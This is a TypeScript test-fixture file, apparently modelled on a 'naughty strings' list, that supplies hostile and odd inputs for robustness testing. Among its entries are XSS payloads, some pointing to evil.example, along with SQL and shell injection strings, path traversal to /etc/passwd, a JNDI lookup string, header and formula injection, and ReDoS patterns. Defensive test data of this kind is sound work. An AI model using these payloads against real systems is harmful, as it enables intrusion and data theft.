import { rowsOf } from './rows';

/** Marks that pile up on each letter, as many as fonts cannot draw. */
const piledUp = (text: string, marks: number) =>
  [...text].map((letter, at) => letter + String.fromCodePoint(0x300 + (at % 16)).repeat(marks)).join('');

const invisible = ['', ' ', '\t', '\u200b', '\u2060\ufeff', '\u00ad', '\u3000', '\u180e\u200d'];

const reserved = [
  ...[
    'undefined',
    'null',
    'nil',
    'NaN',
    'Infinity',
    'true',
    'false',
    'None',
    'then',
    'constructor',
    '__proto__',
    'toString',
  ],
  ...['hasOwnProperty', 'prototype', '[object Object]', 'CON', 'NUL.txt', 'LPT1', '.', '..', '.htaccess', 'index.php'],
];

const numbers = [
  ...['0', '-0', '00', '1.', '.5', '1,5', '1.000,50', '1e400', '-1', '0x1F', '0b101', '1_000', '١٢٣', '½', '²', 'Ⅻ'],
  ...['9007199254740993', '340282366920938463463374607431768211456', '2147483648', '-9223372036854775809', '1/0'],
];

const signs = [
  ...[
    `!"#$%&'()*+,-./:;<=>?@[\\]^_\`{|}~`,
    '&amp;',
    '&lt;b&gt;',
    '&#x3c;i&#x3e;',
    '%3Cb%3E',
    '\\u003cb\\u003e',
    '"',
    "'",
    '`',
  ],
  ...[
    "''",
    '""',
    '\'"\'"',
    '\\',
    '\\\\',
    '\\"',
    '$&',
    '$1',
    '\u0024{7*7}',
    '{{7*7}}',
    '{0}',
    '{name, plural, other {#}}',
    '<%= 7 %>',
  ],
  ...['#{7*7}', '%s%s%n', '%d', '%00', '%F1', '~~', '…', '—', '« »', '¿¡', '№', '℅', '™', '€£¥₱', '±≤≠∞', '√∫∑'],
];

const languages = [
  ...[
    'Señora Ñandú',
    'L’été à Trois-Rivières',
    'Straße Ärger',
    'Iași și Târgu Mureș',
    'Ōtautahi',
    'Dún Laoghaire',
    'ﬁn',
    'Ǆ',
  ],
  ...[
    'مرحبا بالعالم',
    'שלום עולם',
    'नमस्ते दुनिया',
    'สวัสดีชาวโลก',
    '你好，世界',
    'こんにちは',
    '안녕하세요',
    'Здравствуйте',
    'Γειά σου',
  ],
  ...[
    'abc אבג def',
    'أهلا hello أهلا',
    'İstanbul ılık',
    'ß SS ẞ',
    'Åström A\u030astro\u0308m',
    'ᚠᛇᚻ',
    '𐎀𐎁',
    '𝒞𝓁𝑒𝒶𝓃',
    'ｆｕｌｌ　ｗｉｄｔｈ',
  ],
];

const emoji = [
  ...[
    '🧽',
    '👩‍🔧',
    '👨‍👩‍👧‍👦',
    '🏳️‍🌈',
    '🇨🇦🇫🇷🇪🇸',
    '✊🏿',
    '❤️',
    '1️⃣',
    '🧹🪣🧼🪟',
    'a👍b👎c',
    '(╯°□°)╯︵ ┻━┻',
    'ಠ_ಠ',
    '( ͡° ͜ʖ ͡°)',
  ],
];

const hidden = [
  ...[
    '\u202eexe.gnp',
    'ab\u200bcd',
    'soft\u00adhyphen',
    '\ufeffmark first',
    'a\u2066b\u2069c',
    'line\u2028break',
    'page\u2029break',
  ],
  ...[
    'bell\u0007',
    'escape\u001b[31mred',
    'delete\u007f',
    'next\u0085line',
    'tab\tin',
    'two\nlines',
    'win\r\ndows',
    'x\u0300',
  ],
  ...['tag\u{e0041}s', 'variant\ufe0f', 'private\ue000', 'nonchar\ufdd0'],
];

const markup = [
  ...[
    '<b>bold</b>',
    '</p><p>',
    '<!-- comment',
    '-->',
    '<!DOCTYPE html>',
    '<![CDATA[x]]>',
    '<?php echo 1; ?>',
    '<br',
    '<>',
    '< b >',
  ],
  ...[
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '</script><script>alert(2)</script>',
    '</title><svg/onload=alert(3)>',
  ],
  ...[
    '"><img src=x onerror=alert(4)>',
    "' onmouseover='alert(5)",
    '" autofocus onfocus="alert(6)',
    '<iframe srcdoc="<b>x">',
    '<a href="javascript:alert(7)">x</a>',
  ],
  ...[
    '<style>*{display:none}</style>',
    '<base href="//evil.example">',
    '<meta http-equiv=refresh content=0>',
    '<math><mi//xlink:href="data:x">',
  ],
  ...[
    '<form action=//evil.example><button>',
    '</textarea><input name=x>',
    '<object data=x>',
    '<link rel=stylesheet href=//evil.example>',
    '<svg><a>',
  ],
  ...[
    'javascript:alert(8)',
    'JaVa\tScript:alert(9)',
    'data:text/html,<b>x</b>',
    'vbscript:x',
    '//evil.example',
    'http://evil.example/?a=1&b=2',
  ],
];

const commands = [
  ...[
    "'; drop table companies; --",
    "1' or '1'='1",
    '1; select pg_sleep(1)',
    "x' union select null --",
    '/* comment */',
    '\\copy x',
    '%_%',
    "E'\\\\'",
  ],
  ...[
    '$(id)',
    '`id`',
    '; ls',
    '| cat',
    '&& true',
    '../../etc/passwd',
    '..\\..\\win.ini',
    '/dev/null',
    'file:///etc/hosts',
    '\u0024{jndi:ldap://x.example}',
  ],
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@sum(1)',
    '\t=1',
    '{"a":1}',
    '[1,2',
    '{"__proto__":{"x":1}}',
    'a=1&b=2',
    'a[]=1',
    '<xml/>',
    '<!ENTITY x SYSTEM "y">',
  ],
  ...[
    'Bcc: someone@example.com',
    'x\r\nBcc: someone@example.com',
    'Set-Cookie: a=b',
    '(a+)+$',
    '^(?:x){1000}',
    '[[:alpha:]',
    '*',
    '?',
    '--help',
    '-rf',
  ],
];

const plain = [
  'Scunthorpe Cleaning',
  'Penistone Gardens',
  'Dr. Dick Van Nostrand',
  'O’Neil & Fils',
  'A',
  'no',
  'Jean-François d’Arc',
  'X Æ A-12',
];

const long = [
  'a'.repeat(99),
  'word '.repeat(60).trim(),
  '🪟'.repeat(50),
  piledUp('cleaning', 12),
  piledUp('Zz', 60),
  `${'('.repeat(40)}${')'.repeat(40)}`,
];

/** Texts that people, mistakes and attackers send: markup, commands, other scripts, signs that are not seen, long ones, nothing at all. */
export const hostileStrings = (): string[] =>
  rowsOf(
    [
      ...plain,
      ...signs,
      ...markup,
      ...languages,
      ...hidden,
      ...emoji,
      ...reserved,
      ...numbers,
      ...commands,
      ...long,
      ...invisible,
    ],
    'strings/blns.json',
    JSON.parse,
  );
